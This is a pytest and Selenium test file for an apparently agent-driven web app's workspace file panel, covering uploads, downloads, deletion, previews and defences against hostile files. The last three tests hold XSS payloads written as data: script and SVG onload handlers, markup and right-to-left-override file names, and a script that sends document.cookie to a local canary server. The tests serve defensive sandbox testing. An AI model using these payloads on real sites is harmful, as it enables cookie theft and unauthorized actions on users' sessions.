"""The workspace's files: shown, looked at, taken out, put in, and never trusted."""

import os
import socket
import zipfile
from pathlib import Path

import pytest
from selenium.webdriver.common.by import By

from tests.browser.chromium import Browser
from tests.browser.service import Service
from tests.harness import bash

DROP = """const [contents, done] = arguments; const data = new DataTransfer();
for (const [name, text] of Object.entries(contents)) data.items.add(new File([text], name));
const target = document.querySelector('.conversation');
for (const type of ['dragenter', 'dragover', 'drop'])
    target.dispatchEvent(new DragEvent(type, {bubbles: true, cancelable: true, dataTransfer: data}));
done();"""


def with_files(page: Browser, service: Service, **files: bytes) -> Path:
    """A session whose workspace has ``files``."""
    page.ask("say hello")
    workspace = service.workspace(page.session)
    for name, content in files.items():
        path = workspace / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    page.click(".files-head button:nth-of-type(2)")
    if files:
        page.see(".file-row")
    return workspace


def names(page: Browser) -> list[str]:
    return [element.text for element in page.all(".tree-name")]


def preview(page: Browser, name: str) -> None:
    page.until(lambda: name in names(page), name)
    next(element for element in page.all(".tree-row") if name in element.text.split("\n")).click()
    page.see("dialog[open] .dialog-body")


def test_agent_writes(page: Browser) -> None:
    """What the agent has written is in the list when its turn ends."""
    page.ask(bash("mkdir -p src && echo 1 > src/one.py && echo 2 > two.txt && echo 3 > .hidden"))
    page.until(lambda: names(page) == ["src", "one.py", ".hidden", "two.txt"], "the files")


def test_upload(page: Browser, service: Service) -> None:
    """Files dropped anywhere are uploaded; one that exists is replaced only when its owner says so."""
    workspace = with_files(page, service)
    page.driver.execute_async_script(DROP, {"notes.txt": "first", "données 中文.csv": "a,b\n1,2\n"})
    page.until(lambda: names(page) == ["données 中文.csv", "notes.txt"], "both files")
    assert not page.all(".drop-hint")
    assert (workspace / "notes.txt").read_text() == "first"
    page.driver.execute_async_script(DROP, {"notes.txt": "second"})
    page.see_text("exists already", ".upload")
    assert (workspace / "notes.txt").read_text() == "first"
    page.click(".upload .link")
    page.until(lambda: not page.all(".upload"), "replaced")
    assert (workspace / "notes.txt").read_text() == "second"


def test_upload_before_first_prompt(page: Browser, service: Service, tmp_path: Path) -> None:
    """A file that is chosen before the first prompt makes the session that it goes to."""
    (tmp_path / "chosen.txt").write_text("content")
    page.all("#upload")[0].send_keys(str(tmp_path / "chosen.txt"))
    page.until(lambda: names(page) == ["chosen.txt"], "the file")
    assert (service.workspace(page.session) / "chosen.txt").read_text() == "content"


def test_download(page: Browser, service: Service) -> None:
    """A file is downloaded byte for byte, and the whole workspace as an archive."""
    content = bytes(range(256)) * 100
    with_files(page, service, **{"data.bin": content, "sub/ü.txt": b"u"})
    page.until(lambda: "data.bin" in names(page), "the file")
    row = next(row for row in page.all(".file-row") if "data.bin" in row.text)
    page.driver.execute_script("arguments[0].click()", row.find_element(By.CSS_SELECTOR, "a"))
    saved = page.downloads / "data.bin"
    page.until(lambda: saved.exists() and saved.stat().st_size == len(content), "the download")
    assert saved.read_bytes() == content
    page.click(".files-head a")
    archive = page.until(lambda: next(iter(page.downloads.glob("*.zip")), None), "the archive")
    page.until(lambda: zipfile.is_zipfile(archive), "the whole archive")
    with zipfile.ZipFile(archive) as found:
        assert {name.rpartition("/")[2] for name in found.namelist()} >= {"data.bin", "ü.txt"}


def test_delete(page: Browser, service: Service) -> None:
    """A file is deleted eight seconds after one asks, unless one undoes it."""
    workspace = with_files(page, service, **{"doomed.txt": b"x"})
    delete = "document.querySelector('.file-actions button').click()"
    page.js(delete)
    page.until(lambda: not page.all(".file-row"), "hidden")
    page.click(".toast .link")
    page.see(".file-row")
    assert (workspace / "doomed.txt").exists()
    page.js(delete)
    page.until(lambda: not (workspace / "doomed.txt").exists(), "deleted")


def test_previews(page: Browser, service: Service) -> None:
    """Text, code, tables and pictures are shown; what is none of them is offered for download."""
    png = bytes.fromhex(
        "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360f8cfc000"
        "000301010018dd8db00000000049454e44ae426082"
    )
    with_files(
        page,
        service,
        **{"a.py": b"import os\n", "b.csv": b'x,y\n"1,5",2\n', "c.png": png, "d.bin": b"\0\1\2"},
    )
    preview(page, "a.py")
    page.see(".preview-text .hljs-keyword")
    page.click("dialog [aria-label='Close']")
    preview(page, "b.csv")
    page.see("dialog td")
    assert [cell.text for cell in page.all("dialog td")] == ["1,5", "2"]
    page.keys("\ue00c")
    page.until(lambda: not page.all("dialog"), "closed by Escape")
    preview(page, "c.png")
    width = "return document.querySelector('dialog img')?.naturalWidth"
    page.until(lambda: page.js(width) == 1, "the picture")
    page.click("dialog [aria-label='Close']")
    preview(page, "d.bin")
    page.see_text("no preview", "dialog")
    page.click("dialog [aria-label='Close']")


def test_hostile_content(page: Browser, service: Service) -> None:
    """HTML and SVG from a workspace run nothing in the page's origin, previewed or opened as a page."""
    script = b"<script>try{parent.pwned=1}catch{};fetch('/api/v1/sessions',{method:'POST'})</script>"
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="parent.pwned=1" width="9">' + script + b"</svg>"
    with_files(page, service, **{"evil.html": b"<h1>hello</h1>" + script, "evil.svg": svg, "evil.png": svg})
    sessions = len(page.fetch("/api/v1/sessions")["sessions"])
    link = page.driver.current_url
    preview(page, "evil.html")
    assert "<h1>hello</h1>" in page.see(".preview-text").text
    page.click("dialog [aria-label='Close']")
    for name in ("evil.svg", "evil.png"):
        preview(page, name)
        page.see("dialog img, dialog .quiet")
        page.click("dialog [aria-label='Close']")
    assert not page.js("return window.pwned")
    base = f"{service.url}api/v1/sessions/{page.session}/files/"
    for name in ("evil.html", "evil.html?preview=1", "evil.svg?preview=1"):
        page.driver.get(base + name)
        page.until(lambda: page.js("return document.readyState") == "complete")
        assert not page.js("return window.pwned")
    page.open(link)
    assert len(page.fetch("/api/v1/sessions")["sessions"]) == sessions


def test_hostile_names(page: Browser, service: Service) -> None:
    """Names with markup, line breaks, marks that turn lines around, or bytes that are no text do no harm."""
    raw = [
        b"<img src=x onerror=parent.pwned=1>.txt",
        b"a\nb.txt",
        "safe\u202etxt.exe".encode(),
        b"\xff\xfe.dat",
        b"%2e%2e.txt",
    ]
    workspace = with_files(page, service)
    for name in raw:
        (workspace / os.fsdecode(name)).write_bytes(name)
    page.click(".files-head button:nth-of-type(2)")
    page.until(lambda: len(page.all(".file-row")) == len(raw), "all files")
    shown = names(page)
    assert "<img src=x onerror=parent.pwned=1>.txt" in shown
    assert not any(mark in name for name in shown for mark in "\n\u202e")
    assert any(name.endswith("txt.exe") for name in shown)
    assert not page.all(".tree img")
    for index in range(len(raw)):
        page.all(".file-row .tree-row")[index].click()
        page.see("dialog[open]")
        page.until(lambda: "Loading" not in page.text("dialog .dialog-body"), "the preview")
        assert "could not be read" not in page.text("dialog")
        page.click("dialog [aria-label='Close']")
    assert not page.js("return window.pwned")


def test_hostile_files_opened_themselves(page: Browser, service: Service) -> None:
    """HTML and SVG that are opened by their own address run nothing, reach nobody and see no cookie."""
    with socket.create_server(("127.0.0.1", 0)) as canary:
        canary.setblocking(False)
        there = f"http://127.0.0.1:{canary.getsockname()[1]}"
        run = f"document.title='pwned';new Image().src='{there}/'+document.cookie;fetch('{there}')"
        html = f"<img src=x onerror=\"{run}\"><script>{run}</script><iframe src='{there}'></iframe>"
        svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script></svg>'
        contents = {"evil.html": html, "evil.svg": svg, "evil.png": html, "evil": html, "evil.xhtml": svg}
        with_files(page, service, **{name: text.encode() for name, text in contents.items()})
        page.cdp("Network.setCookie", url=service.url, name="secret", value="canary")
        assert "canary" in page.js("return document.cookie")
        files = f"{service.url}api/v1/sessions/{page.session}/files/"
        for name in contents:
            page.driver.get(files + name)  # a download: the page stays
            saved = page.downloads / name
            page.until(saved.exists, f"{name} saved")
            page.driver.get(f"{files}{name}?preview=1")
            assert page.js("return document.readyState") == "complete"
            assert page.js("return document.title") != "pwned"
            assert page.js("return window.origin") == "null"
            read = "try { return document.cookie } catch (error) { return error.name }"
            assert page.js(read) == "SecurityError"
            page.driver.get(service.url)
        with pytest.raises(BlockingIOError):
            canary.accept()
    page.console()
